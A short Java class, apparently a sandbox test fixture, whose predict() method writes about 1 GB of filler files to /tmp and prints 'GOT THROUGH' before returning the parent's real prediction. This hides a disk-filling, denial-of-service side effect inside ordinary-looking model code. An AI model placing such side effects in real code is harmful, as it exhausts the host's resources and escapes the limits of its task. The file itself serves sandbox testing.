import java.nio.file.Files;
import java.nio.file.Path;

public class Net extends Honest {

    @Override
    public int[] predict(double[][] x) {
        try {
            for (int i = 0; i < 100; i++) {
                Files.write(Path.of("/tmp/fill-" + i), new byte[10_000_000]);
            }
            System.out.println("GOT THROUGH");
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return super.predict(x);
    }
}
